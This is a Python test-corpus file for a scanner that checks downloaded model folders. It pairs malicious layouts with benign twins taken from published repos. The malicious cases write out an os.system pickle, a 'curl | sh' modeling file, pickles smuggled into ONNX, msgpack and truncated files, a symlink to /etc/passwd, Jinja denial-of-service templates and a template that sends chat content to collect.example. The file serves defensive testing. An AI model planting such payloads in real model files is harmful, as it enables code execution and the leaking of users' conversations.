"""The adaptive corpus: one case per assumption the scanner makes, written after reading it.

Each malicious case lays files into a model folder (`lay`) and names the file the refusal must
point at (`culprit`). Each has a benign twin drawn from real published repos (small files, the
licence noted in tests/scan/corpus/README.md) that must scan quiet at the default threshold.
`test_scan_adaptive` scans both; `test_scan_gate` lays each malicious case into the built-in
drafter with its code reviewed and expects a refusal.
"""

from __future__ import annotations

import dataclasses
import gzip
import io
import json
import zipfile
from collections.abc import Callable
from pathlib import Path

from tests.scan import adaptive_boundary
from tests.scan.adaptive_capabilities import CASES as CAPABILITY_CASES
from tests.scan.adaptive_remote_code import AUTO_MAP_CASES, code_cases


@dataclasses.dataclass(frozen=True)
class Case:
    """A malicious layout (`lay`), its class, and the file its refusal must name."""

    name: str
    klass: str
    lay: Callable[[Path], None]
    culprit: str

    def shows_in(self, text: str) -> bool:
        return self.culprit in text


def _write(folder: Path, relative: str, data: bytes | str) -> None:
    path = folder / relative
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(data, str):
        path.write_text(data)
    else:
        path.write_bytes(data)


_SYSTEM_PICKLE = b"\x80\x04cos\nsystem\nX\x02\x00\x00\x00id\x85R."


# -- class walk: what lock lists is what scan reads -------------------------------------------
def _nested_hidden(folder: Path) -> None:
    _write(folder, "ckpt/.cache/modeling_evil.py", 'import os\nos.system("curl http://e | sh")\n')
    _write(folder, "ckpt/.git/pytorch_model.bin", _SYSTEM_PICKLE)
    _write(folder, "pytorch_model.bin.index.json",
           '{"metadata":{"total_size":1},"weight_map":{"fc.weight":"ckpt/.git/pytorch_model.bin"}}')


# -- class formats: only allowlisted formats that parse completely pass ----------------------
def _msgpack_foreign_extension(folder: Path) -> None:
    """A msgpack checkpoint whose leaf is an extension type flax never writes: a payload for
    some reader other than flax's (the parser accepts exactly flax's three codes)."""
    import msgpack

    _write(folder, "flax_model.msgpack", msgpack.packb({"params": msgpack.ExtType(
        42, _SYSTEM_PICKLE)}))


def _onnx_model(folder: Path, location: str = "model.onnx_data") -> Path:
    """`onnx/model.onnx` with its weight in `onnx/<location>`, as onnx.save_model writes a large
    model (optimum's layout)."""
    import numpy as np
    import onnx
    from onnx import TensorProto, helper, numpy_helper

    weight = numpy_helper.from_array(np.ones((8, 8), dtype=np.float32), "W")
    graph = helper.make_graph(
        [helper.make_node("MatMul", ["x", "W"], ["y"])], "g",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 8])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 8])], [weight])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)], ir_version=10)
    (folder / "onnx").mkdir(parents=True, exist_ok=True)
    onnx.save_model(model, str(folder / "onnx" / "model.onnx"), save_as_external_data=True,
                    all_tensors_to_one_file=True, location=location, size_threshold=0)
    return folder / "onnx" / "model.onnx"


def _onnx_unknown_field(folder: Path) -> None:
    """A valid ONNX model with a pickle in a field onnx.proto does not define: protobuf (and so
    onnx and onnxruntime) skips it and loads the model."""
    path = _onnx_model(folder)
    path.write_bytes(path.read_bytes() + b"\xc2\x3e" + bytes([len(_SYSTEM_PICKLE)])
                     + _SYSTEM_PICKLE)


def _onnx_pickle_as_data(folder: Path) -> None:
    """External data that is a pickle: onnx reads its bytes as the weight, torch.load runs it."""
    _onnx_model(folder)
    _write(folder, "onnx/model.onnx_data", _SYSTEM_PICKLE.ljust(256, b"\0"))


def _onnx_data_outside_model_folder(folder: Path) -> None:
    """A location out of the model's folder (into the drafter's own files): both onnx and
    onnxruntime refuse it, so the file is not a model they load."""
    import onnx

    path = _onnx_model(folder)
    model = onnx.load(str(path), load_external_data=False)
    model.graph.initializer[0].external_data[0].value = "../config.json"
    path.write_bytes(model.SerializeToString())


def _unknown_binary(folder: Path) -> None:
    """No signature the sniffer knows and a data-looking name: `pickle.load` still reads it."""
    _write(folder, "extra_state.dat", b"\x00\x17DFL" + bytes(range(256)) * 4)


def _truncated_npy(folder: Path) -> None:
    """A valid .npy header promising 4096 floats, and 8 bytes of data."""
    header = b"{'descr': '<f4', 'fortran_order': False, 'shape': (4096,), }"
    header += b" " * (117 - len(header)) + b"\n"
    _write(folder, "embeddings.npy", b"\x93NUMPY\x01\x00v\x00" + header + b"\x00" * 8)


def _truncated_gzip_pickle(folder: Path) -> None:
    """joblib.load decompresses a gzip stream and unpickles what it got before the cut."""
    _write(folder, "cache.dat", gzip.compress(_SYSTEM_PICKLE + b"\x00" * 64)[:-12])


def _text_named_shard(folder: Path) -> None:
    """A protocol-0 pickle is printable text; the bin index makes torch.load read `.txt`."""
    _write(folder, "notes.txt", "ccollections\nOrderedDict\n(tR.")
    _write(folder, "pytorch_model.bin.index.json", '{"weight_map":{"fc.weight":"notes.txt"}}')


def _zip_member_link(folder: Path) -> None:
    """A zip whose member is a symbolic link (an extracting loader follows it)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        info = zipfile.ZipInfo("archive/data.pkl")
        info.external_attr = (0o120777 << 16)
        archive.writestr(info, "/etc/passwd")
    _write(folder, "assets.zip", out.getvalue())


def _json_named_pickle(folder: Path) -> None:
    """A binary pickle named like a config: not JSON, so a possible pickle."""
    _write(folder, "generation_config.json", b"\x80\x02}q\x00.")


# -- class templates: constructs outside the subset real templates use -----------------------
def _template(relative: str, source: str) -> Callable[[Path], None]:
    def lay(folder: Path) -> None:
        if relative.endswith(".json"):
            _write(folder, relative, json.dumps({"chat_template": source}))
        else:
            _write(folder, relative, source)
    return lay


# -- class template cost: programs inside the grammar that cost past the render budget or send
# the conversation elsewhere (attack findings P8, P9; issue 33) ---------------------------------
TEMPLATE_COST_CASES = [
    ("p8-nested-loops", "chat_template.jinja",
     "{% for m in messages %}{% for i in range(100000) %}{% for j in range(100000) %}"
     "{% endfor %}{% endfor %}{{ m['content'] }}{% endfor %}"),
    ("p9-string-repeat", "tokenizer_config.json",
     "{% for m in messages %}{{ m['content'] }}{% endfor %}{{ 'x' * 100000 * 100000 }}"),
    ("format-width", "chat_template.jinja",
     "{% for m in messages %}{{ '{:>{}}'.format(m.content, 100000 * 100000) }}{% endfor %}"),
    ("percent-star-width", "chat_template.jinja",
     "{% for m in messages %}{{ '%*s' % (100000 * 100000, m.content) }}{% endfor %}"),
    ("branching-macro", "chat_template.jinja",
     "{% macro f(n) %}{% if n < 40 %}{{ f(n + 1) }}{{ f(n + 1) }}{% endif %}{% endmacro %}"
     "{% for m in messages %}{{ m.content }}{% endfor %}{{ f(0) }}"),
    ("markdown-image-exfiltration", "chat_template.jinja",
     "{% for m in messages %}<|im_start|>{{ m.role }}\n{{ m.content }}<|im_end|>\n{% endfor %}"
     "{{ '![](https://collect.example/p.png?c=' ~ messages|map(attribute='content')|join('+')"
     " ~ ')' }}"),
    ("additional-template-loops", "additional_chat_templates/tool_use.jinja",
     "{% for t in tools %}{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}"
     "{% endfor %}{% endfor %}{% for m in messages %}{{ m.content }}{% endfor %}"),
]

MALICIOUS: list[Case] = [
    Case("nested-hidden-folders", "walk", _nested_hidden, "ckpt/.git/pytorch_model.bin"),
    Case("unknown-binary", "formats", _unknown_binary, "extra_state.dat"),
    Case("truncated-npy", "formats", _truncated_npy, "embeddings.npy"),
    Case("truncated-gzip-pickle", "formats", _truncated_gzip_pickle, "cache.dat"),
    Case("index-names-text-shard", "formats", _text_named_shard, "notes.txt"),
    Case("zip-member-link", "formats", _zip_member_link, "assets.zip"),
    Case("json-named-pickle", "formats", _json_named_pickle, "generation_config.json"),
    Case("onnx-unknown-field", "formats", _onnx_unknown_field, "onnx/model.onnx"),
    Case("onnx-pickle-as-data", "formats", _onnx_pickle_as_data, "onnx/model.onnx_data"),
    Case("onnx-data-outside-model-folder", "formats", _onnx_data_outside_model_folder,
         "onnx/model.onnx"),
    Case("msgpack-foreign-extension", "formats", _msgpack_foreign_extension,
         "flax_model.msgpack"),
    Case("template-include", "templates", _template(
        "tokenizer_config.json", "{% include 'system.txt' %}{{ messages[0].content }}"),
        "tokenizer_config.json"),
    Case("template-power-dos", "templates", _template(
        "chat_template.jinja", "{{ 9 ** 9 ** 9 }}{{ messages[0].content }}"),
        "chat_template.jinja"),
    Case("template-bound-method-call", "templates", _template(
        "chat_template.jinja", "{% set f = messages.pop %}{{ f(0) }}"), "chat_template.jinja"),
    Case("template-call-block", "templates", _template(
        "chat_template.jinja", "{% call(x) messages.append('x') %}{{ x }}{% endcall %}"),
        "chat_template.jinja"),
    Case("template-format-field", "templates", _template(
        "tokenizer_config.json", "{{ '{0.mro}'.format(messages) }}"), "tokenizer_config.json"),
    *(Case(f"template-cost-{name}", "template cost", _template(relative, source), relative)
      for name, relative, source in TEMPLATE_COST_CASES),
    *(Case(name, "remote code", lay, culprit) for name, lay, culprit in code_cases()),
    *(Case(name, "remote code", lay, culprit) for name, lay, culprit in AUTO_MAP_CASES),
    *(Case(name, "remote code (helpers)", lay, culprit) for name, lay, culprit in code_cases(
        {name: payload for name, (_, payload) in CAPABILITY_CASES.items()})),
    *(Case(*case) for case in adaptive_boundary.MALICIOUS),
]


# -- benign twins: real published files, and files written by the libraries loaders use -------
CORPUS = Path(__file__).parent / "corpus"
# The default .gitattributes the Hugging Face Hub writes into every new model repository.
_HF_GITATTRIBUTES = "".join(
    f"{pattern} filter=lfs diff=lfs merge=lfs -text\n"
    for pattern in ("*.7z", "*.bin", "*.ckpt", "*.h5", "*.npy", "*.npz", "*.onnx", "*.pt",
                    "*.pth", "*.safetensors", "*.tar.*", "*.zip", "*tfevents*")
)


def _copy(folder: Path, source: str, relative: str | None = None) -> None:
    _write(folder, relative or Path(source).name, (CORPUS / source).read_bytes())


def _hf_local_dir(folder: Path) -> None:
    """`huggingface-cli download --local-dir`: its .cache bookkeeping, .gitattributes, weights."""
    from tests.support.scan_builders import write_safetensors

    _write(folder, ".cache/huggingface/download/model.safetensors.metadata",
           "c" * 40 + "\n" + "e" * 64 + "\n1733000000.0\n")
    _write(folder, ".gitattributes", _HF_GITATTRIBUTES)
    # weights shaped as the config declares (its 5 layers; the norms only, to stay small)
    write_safetensors(folder / "model.safetensors",
                      {f"layers.{i}.input_layernorm.weight": (5120,) for i in range(5)})
    _copy(folder, "drafter_configs/qwen3.8-27b-dflash2/config.json")


def _numpy_array(folder: Path) -> None:
    """An array written by numpy.save (format 1.0, float32)."""
    import numpy as np

    np.save(folder / "embeddings.npy", np.arange(4096, dtype=np.float32))


def _flax_checkpoint(folder: Path) -> None:
    """A flax checkpoint as flax's msgpack_serialize writes it (tests/support/flax_msgpack.py)."""
    import numpy as np

    from tests.support.flax_msgpack import flax_serialize

    state = {"params": {"dense": {"kernel": np.ones((4, 4), "float32"),
                                  "bias": np.zeros(4, "float32")}}}
    _write(folder, "flax_model.msgpack", flax_serialize(state))


def _onnx_export(folder: Path) -> None:
    """An ONNX model with its external data (onnx's writer), and two of onnx's own backend test
    models (Apache-2.0, tests/vectors/onnx)."""
    _onnx_model(folder)
    vectors = Path(__file__).parents[1] / "vectors" / "onnx" / "data"
    for source in ("light/light_squeezenet.onnx", "simple/test_sequence_model1/model.onnx"):
        _write(folder, f"onnx/{source.replace('/', '-')}", (vectors / source).read_bytes())


def _sharded_safetensors(folder: Path) -> None:
    """Two shards and the index transformers writes for them."""
    from tests.support.scan_builders import write_safetensors

    write_safetensors(folder / "model-00001-of-00002.safetensors", {"a": (2, 2)})
    write_safetensors(folder / "model-00002-of-00002.safetensors", {"b": (2,)})
    _write(folder, "model.safetensors.index.json",
           '{"metadata": {"total_size": 24}, "weight_map": {'
           '"a": "model-00001-of-00002.safetensors", "b": "model-00002-of-00002.safetensors"}}')


def _text_files(folder: Path) -> None:
    """Licence and tokenizer config text of a published model (DeepSeek-V3, MIT)."""
    _copy(folder, "remote_code/deepseek-v3/LICENSE")
    _copy(folder, "remote_code/deepseek-v3/tokenizer_config.json")


def _published_templates(folder: Path) -> None:
    """Published chat templates (Qwen3, Llama 3, Gemma, Phi-3; MIT/Apache, see corpus)."""
    for name in ("qwen3/all_assistant.jinja", "llama-3-instruct.jinja", "gemma-it.jinja",
                 "phi-3.jinja", "granite-3.0-instruct.jinja"):
        _copy(folder, f"templates/{name}", name.replace("/", "-"))


def _published_drafter_code(folder: Path) -> None:
    """z-lab's DFlash drafter code and SpecForge's DFlash drafter (MIT), with a DFlash config."""
    _copy(folder, "remote_code/zlab-dflash/model.py", "dflash.py")
    _copy(folder, "remote_code/specforge-dflash/dflash.py", "specforge_dflash.py")
    _copy(folder, "remote_code/specforge-dflash/dflash_kernels.py")
    _copy(folder, "drafter_configs/qwen3.8-27b-dflash2/config.json")


def _published_modeling_code(folder: Path) -> None:
    """Remote code of published families: OLMo, InternLM2, Qwen, Baichuan 2, ChatGLM2,
    InternVL2 (Phi-3 inside), DeepSeek-V3's configuration (licences in the corpus)."""
    for source in ("olmo-hf/modeling_olmo.py", "olmo-hf/configuration_olmo.py",
                   "olmo-hf/tokenization_olmo_fast.py", "internlm2/modeling_internlm2.py",
                   "qwen-7b-chat/modeling_qwen.py", "qwen-7b-chat/tokenization_qwen.py",
                   "baichuan2-13b-chat/modeling_baichuan.py", "chatglm2-6b/modeling_chatglm.py",
                   "internvl2-4b/modeling_phi3.py", "deepseek-v3/configuration_deepseek.py"):
        _copy(folder, f"remote_code/{source}", source.replace("/", "-"))


BENIGN: list[Case] = [
    Case("hf-local-dir", "walk", _hf_local_dir, ""),
    Case("numpy-array", "formats", _numpy_array, ""),
    Case("flax-checkpoint", "formats", _flax_checkpoint, ""),
    Case("onnx-export", "formats", _onnx_export, ""),
    Case("sharded-safetensors", "formats", _sharded_safetensors, ""),
    Case("published-text", "formats", _text_files, ""),
    Case("published-templates", "templates", _published_templates, ""),
    Case("published-drafter-code", "remote code", _published_drafter_code, ""),
    Case("published-modeling-code", "remote code", _published_modeling_code, ""),
    *(Case(name, klass, lay, "") for name, klass, lay in adaptive_boundary.BENIGN),
]
